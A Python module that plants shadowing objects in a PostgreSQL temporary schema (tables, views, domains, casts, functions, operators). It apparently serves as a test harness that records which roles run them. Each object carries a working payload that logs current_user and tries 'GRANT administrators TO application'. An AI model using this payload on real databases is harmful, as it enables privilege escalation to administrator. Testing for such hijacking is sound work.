"""Names that a user takes over in their own temporary schema, to be run by somebody with more rights.

Whatever of it runs, writes down as whom; and tries to get the rights of an administrator.
"""

from __future__ import annotations

from collections.abc import Callable

import psycopg

Disguise = Callable[[psycopg.Connection], None]

_SPY = """
CREATE TEMP TABLE loot (as_whom text, what text);
CREATE TEMP SEQUENCE caught;
GRANT ALL ON loot, caught TO PUBLIC;
CREATE FUNCTION pg_temp.listen(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO pg_temp.loot VALUES (current_user, what);
    IF current_user = 'dbadmin' THEN
        PERFORM nextval('pg_temp.caught');  -- stays when the statement fails in the end
    END IF;
    BEGIN
        EXECUTE 'GRANT administrators TO application';
    EXCEPTION WHEN insufficient_privilege THEN
    END;
    RETURN true;
END $$;
CREATE FUNCTION pg_temp.spy() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM pg_temp.listen(TG_TABLE_NAME || ' ' || TG_OP);
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END $$;
"""


def prepare(connection: psycopg.Connection) -> None:
    """What all disguises write to."""
    connection.execute(_SPY)


def as_tables(connection: psycopg.Connection) -> None:
    """A temporary table for each table, with what the user sees of it, and triggers."""
    for name in _relations(connection, "r"):
        connection.execute(f"CREATE TEMP TABLE {name} (LIKE public.{name} INCLUDING DEFAULTS)")
        connection.execute(f"INSERT INTO pg_temp.{name} SELECT * FROM public.{name}")
        for key in _keys(connection, name):
            connection.execute(f"ALTER TABLE pg_temp.{name} ADD UNIQUE ({key})")
        connection.execute(f"GRANT ALL ON pg_temp.{name} TO PUBLIC")
        for when in ("BEFORE", "AFTER"):
            connection.execute(
                f"CREATE TRIGGER spy_{when} {when} INSERT OR UPDATE OR DELETE ON pg_temp.{name} "
                "FOR EACH ROW EXECUTE FUNCTION pg_temp.spy()"
            )


def as_views(connection: psycopg.Connection) -> None:
    """A temporary view for each table, which listens to whoever reads it."""
    for name in _relations(connection, "r"):
        connection.execute(
            f"CREATE TEMP VIEW {name} AS SELECT * FROM public.{name} "
            f"WHERE pg_temp.listen('{name} SELECT')"
        )
        connection.execute(f"GRANT ALL ON pg_temp.{name} TO PUBLIC")
        connection.execute(
            f"CREATE TRIGGER spy INSTEAD OF INSERT OR UPDATE OR DELETE ON pg_temp.{name} "
            "FOR EACH ROW EXECUTE FUNCTION pg_temp.spy()"
        )


def as_types(connection: psycopg.Connection) -> None:
    """A temporary type for each enumeration, with a condition that listens."""
    names = connection.execute(
        "SELECT t.typname FROM pg_type AS t WHERE t.typnamespace = 'public'::regnamespace"
        " AND t.typtype = 'e'"
    ).fetchall()
    for (name,) in names:
        connection.execute(
            f"CREATE DOMAIN pg_temp.{name} AS public.{name} "
            f"CHECK (pg_temp.listen('{name} ' || VALUE))"
        )


def as_casts(connection: psycopg.Connection) -> None:
    """A temporary type with the name of one of PostgreSQL's own, and a cast to it."""
    connection.execute("CREATE TYPE pg_temp.uuid AS (value text)")
    connection.execute(
        "CREATE FUNCTION pg_temp.to_uuid(text) RETURNS pg_temp.uuid LANGUAGE plpgsql AS "
        "$$ BEGIN PERFORM pg_temp.listen('cast'); RETURN ROW($1)::pg_temp.uuid; END $$"
    )
    connection.execute(
        "CREATE CAST (text AS pg_temp.uuid) WITH FUNCTION pg_temp.to_uuid(text) AS IMPLICIT"
    )


def as_functions(connection: psycopg.Connection) -> None:
    """Temporary functions, operators and sequences, in a session that looks there first."""
    for call, answer in (
        ("current_user_id()", "uuid"), ("set_current_user(uuid)", "uuid"),
        ("row_security_active(oid)", "boolean"), ("clock_timestamp()", "timestamptz"),
        ("audit_subject(text, jsonb)", "uuid"),
    ):  # fmt: skip
        connection.execute(
            f"CREATE FUNCTION pg_temp.{call} RETURNS {answer} LANGUAGE plpgsql AS "
            "$$ BEGIN PERFORM pg_temp.listen('function'); RETURN NULL; END $$"
        )
    connection.execute(
        "CREATE FUNCTION pg_temp.same(uuid, uuid) RETURNS boolean LANGUAGE plpgsql AS "
        "$$ BEGIN PERFORM pg_temp.listen('operator'); RETURN uuid_eq($1, $2); END $$"
    )
    connection.execute(
        "CREATE OPERATOR pg_temp.= (LEFTARG = uuid, RIGHTARG = uuid, FUNCTION = pg_temp.same)"
    )
    for name in _relations(connection, "S"):
        connection.execute(f"CREATE TEMP SEQUENCE {name}")
        connection.execute(f"GRANT ALL ON SEQUENCE pg_temp.{name} TO PUBLIC")
    connection.execute("SET LOCAL search_path = pg_temp, public")


DISGUISES: tuple[Disguise, ...] = (as_tables, as_views, as_types, as_casts, as_functions)


def loot(connection: psycopg.Connection) -> set[str]:
    """Everybody whose rights something of it ran with."""
    found = connection.execute(
        "SELECT as_whom FROM pg_temp.loot UNION SELECT 'dbadmin' FROM pg_temp.caught WHERE is_called"
    ).fetchall()
    return {name for (name,) in found}


def _relations(connection: psycopg.Connection, kind: str) -> list[str]:
    found = connection.execute(
        "SELECT c.relname FROM pg_class AS c WHERE c.relkind = %s"
        " AND c.relnamespace = 'public'::regnamespace ORDER BY 1", [kind],
    ).fetchall()  # fmt: skip
    return [name for (name,) in found]


def _keys(connection: psycopg.Connection, table: str) -> list[str]:
    """Columns of its primary key, so that ON CONFLICT finds one."""
    found = connection.execute(
        "SELECT string_agg(quote_ident(a.attname), ', ') FROM pg_index AS i JOIN pg_attribute AS a"
        " ON a.attrelid = i.indrelid AND a.attnum = ANY (i.indkey)"
        " WHERE i.indrelid = %s::regclass AND i.indisprimary GROUP BY i.indexrelid",
        [f"public.{table}"],
    ).fetchall()
    return [columns for (columns,) in found]
